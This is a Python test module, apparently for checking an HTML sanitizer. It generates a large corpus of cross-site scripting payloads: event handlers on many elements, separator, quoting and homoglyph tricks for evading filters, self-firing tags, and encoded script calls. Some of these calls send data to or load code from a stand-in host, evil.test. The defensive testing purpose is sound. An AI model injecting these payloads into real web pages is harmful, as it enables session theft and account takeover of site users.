"""Every way to write an event handler, and every element that fires one by itself."""

from collections.abc import Iterator

from tests.security.payloads.marks import CALL, NUMBER

_EVENTS = (
    "abort activate afterprint animationcancel animationend animationiteration animationstart auxclick beforecopy "
    "beforecut beforeinput beforematch beforepaste beforeprint beforetoggle beforeunload beforexrselect begin blur "
    "bounce cancel canplay canplaythrough change click close command contentvisibilityautostatechange contextlost "
    "contextmenu copy cuechange cut dblclick drag dragend dragenter dragleave dragover dragstart drop durationchange "
    "emptied end ended error finish focus focusin focusout formdata fullscreenchange gotpointercapture hashchange "
    "input invalid keydown keypress keyup languagechange load loadeddata loadedmetadata loadstart lostpointercapture "
    "message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup mousewheel offline online pagehide "
    "pageshow paste pause play playing pointercancel pointerdown pointerenter pointermove pointerout pointerover "
    "pointerrawupdate pointerup popstate progress propertychange ratechange readystatechange repeat reset resize "
    "scroll scrollend search seeked seeking select selectionchange selectstart show slotchange stalled start storage "
    "submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend "
    "transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend "
    "webkittransitionend wheel zoom"
).split()
_ELEMENTS = (
    "a abbr acronym address applet area article aside audio b basefont bdi bdo bgsound big blink blockquote br button "
    "canvas caption center cite code col colgroup data datalist dd del details dfn dialog dir div dl dt em embed "
    "fieldset figcaption figure font footer form h1 h2 h3 h4 h5 h6 header hgroup hr i image img input ins isindex kbd "
    "keygen label legend li listing main map mark marquee menu menuitem meter multicol nav nextid nobr object ol "
    "optgroup option output p picture pre progress q rb rp rt rtc ruby s samp search section select selectedcontent "
    "slot small source spacer span strike strong sub summary sup table tbody td tfoot th thead time tr track tt u ul "
    "var video wbr custom-element x"
).split()
_SEPARATORS = (" ", "\t", "\n", "\f", "\r", "/", "//", "/x/", " / ", "\r\n", "\x00", "\x0b", "\xa0", "\u2028", "\x1f")
_QUOTES = ("{}", '"{}"', "'{}'", "`{}`", '"{}', "'{}", "{} ", '"{}"x', "  {}", "\n{}", '&quot;{}"')
_NAMES = (
    "ONERROR OnErRoR onerror\x00 on\x00error \x00onerror onerror\u200b on\u200berror on\xaderror onerror\ufeff "
    "\uff4fnerror onerro\u0280 oneſror xonerror data-onerror aria-onerror xlink:onerror on:error on-error on.error "
    "onerror.x @onerror :onerror *onerror (onerror) v-on:error onerrоr onerror= onerror: =onerror 'onerror \"onerror "
    "<onerror onerror/ /onerror"
).split(" ")
_SELF_FIRING = (
    "<svg onload={}>",
    "<svg><g onload={}></g></svg>",
    "<body onload={}>",
    "<body onpageshow={}>",
    "<iframe onload={}></iframe>",
    "<iframe srcdoc=x onload={}></iframe>",
    "<style onload={}></style>",
    "<script src=x onerror={}></script>",
    "<script src=data:, onload={}></script>",
    "<link rel=stylesheet href=x onerror={}>",
    "<link rel=stylesheet href=data:text/css, onload={}>",
    "<object data=x onerror={}></object>",
    "<object data=data:text/html,x onload={}></object>",
    "<embed src=data:text/html,x onload={}>",
    "<video src=x onerror={}></video>",
    "<video><source onerror={} src=x></video>",
    "<audio src=x onerror={}></audio>",
    "<audio><source src=x onerror={}></audio>",
    "<video poster=x onloadstart={} src=x></video>",
    "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw== onload={}>",
    "<img srcset=x onerror={}>",
    "<picture><source srcset=x><img onerror={} src=x></picture>",
    "<image src=x onerror={}>",
    "<image href=x onerror={}>",
    "<svg><image href=x onerror={}></image></svg>",
    "<input type=image src=x onerror={}>",
    "<input autofocus onfocus={}>",
    "<button autofocus onfocus={}>x</button>",
    "<select autofocus onfocus={}></select>",
    "<textarea autofocus onfocus={}></textarea>",
    "<a href=x autofocus onfocus={}>x</a>",
    "<p tabindex=1 autofocus onfocus={}>x</p>",
    "<p contenteditable autofocus onfocus={}>x</p>",
    "<xss tabindex=1 autofocus onfocusin={}>x</xss>",
    "<details open ontoggle={}>x</details>",
    "<details ontoggle={}><summary>x</summary></details>",
    "<marquee onstart={}>x</marquee>",
    "<marquee loop=1 width=0 onfinish={}>x</marquee>",
    "<svg><animate onbegin={} attributeName=x dur=1s></svg>",
    "<svg><animate onend={} attributeName=x dur=0.01s></svg>",
    "<svg><set onbegin={} attributeName=x to=y></svg>",
    "<svg><animateTransform onbegin={} attributeName=transform></svg>",
    "<svg><animateMotion onbegin={} dur=1s></svg>",
    "<svg><discard onbegin={}></svg>",
    "<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={}>x</p>",
    "<style>p{{transition:color 1ms}}p:not(x){{color:red}}</style><p ontransitionrun={}>x</p>",
    "<p style=content-visibility:auto oncontentvisibilityautostatechange={}>x</p>",
    "<p popover id=x ontoggle={}>x</p><button popovertarget=x>y</button>",
    "<dialog open onclose={}><form method=dialog><button>x</button></form></dialog>",
    "<frameset onload={}>",
    "<track default onerror={} src=x>",
    "<video><track default src=x onerror={}></video>",
    "<math><mi onclick={}>x</mi></math>",
    "<math><mglyph onload={} src=x></math>",
    "<template shadowrootmode=open><slot onslotchange={}></slot></template>",
    "<portal src=x onload={}>",
    "<fencedframe onload={}></fencedframe>",
    "<isindex type=image src=x onerror={}>",
    "<keygen autofocus onfocus={}>",
    "<bgsound src=x onload={}>",
    "<xml onreadystatechange={}>",
    "<applet onerror={}></applet>",
    "<table background=x onload={}></table>",
    "<layer src=x onload={}></layer>",
)
_CODES = (
    f"window['pwn']({NUMBER})",
    f"top.pwn({NUMBER})",
    f"self['p'+'wn']({NUMBER})",
    f"eval('{CALL}')",
    f"Function('{CALL}')()",
    f"setTimeout('{CALL}')",
    f"javascript:{CALL}",
    f"x:{CALL}",
    f"void(0);{CALL}",
    f"{CALL}//",
    f"{CALL}<!--",
    f"-{CALL}-",
    f"[{NUMBER}].map(pwn)",
    f"pwn`{NUMBER}`",
    f"(pwn)({NUMBER})",
    f"pwn?.({NUMBER})",
    f"this.ownerDocument.defaultView.pwn({NUMBER})",
    f"{{onerror=pwn}}throw/**/{NUMBER}",
    f"location='javascript:{CALL}'",
    f"location.href='{'//evil.test/' + NUMBER}'",
    f"open('//evil.test/{NUMBER}')",
    f"fetch('//evil.test/{NUMBER}')",
    f"navigator.sendBeacon('//evil.test/{NUMBER}')",
    f"new/**/Image().src='//evil.test/{NUMBER}'",
    f"import('//evil.test/{NUMBER}')",
    f"document.write('<script>{CALL}</script>')",
    f"document.body.innerHTML='<svg/onload={CALL}>'",
    f"\\u0070wn({NUMBER})",
    f"\\u{{70}}wn({NUMBER})",
    f"pwn(\n{NUMBER})",
    f"&#112;wn({NUMBER})",
    f"&#x70;wn({NUMBER})",
    f"&#0000112;wn({NUMBER})",
    f"&#112wn({NUMBER})",
    f"pwn&lpar;{NUMBER}&rpar;",
    f"pwn&#40;{NUMBER}&#41;",
    f"pwn({NUMBER}&#x29",
    f"pwn&NewLine;({NUMBER})",
    f"Reflect.apply(pwn,0,[{NUMBER}])",
    f"new/**/pwn({NUMBER})",
)


def payloads() -> Iterator[str]:
    """Yield each event, element, separator, quote, spelling of the name and of the code once."""
    yield from (f"<p on{event}={CALL} tabindex=0>x</p>" for event in _EVENTS)
    yield from (f"<{tag} onmouseover={CALL}>x</{tag}>" for tag in _ELEMENTS)
    yield from (f"<img src=x{before}onerror={CALL}>" for before in _SEPARATORS)
    yield from (f"<img{before}src=x{before}onerror={before}={before}{CALL}>" for before in _SEPARATORS)
    yield from (f'<img src="x"{before.strip()}onerror={CALL} title={n}>' for n, before in enumerate(_SEPARATORS))
    yield from (f"<img src=x onerror={quote.format(CALL)}>" for quote in _QUOTES)
    yield from (f"<img src={quote.format('x')} onerror={quote.format(CALL)} id=q>" for quote in _QUOTES)
    yield from (f"<img src=x {name}={CALL}>" for name in _NAMES)
    yield from (element.format(CALL) for element in _SELF_FIRING)
    yield from (f'<img src=x onerror="{code}">' for code in _CODES)
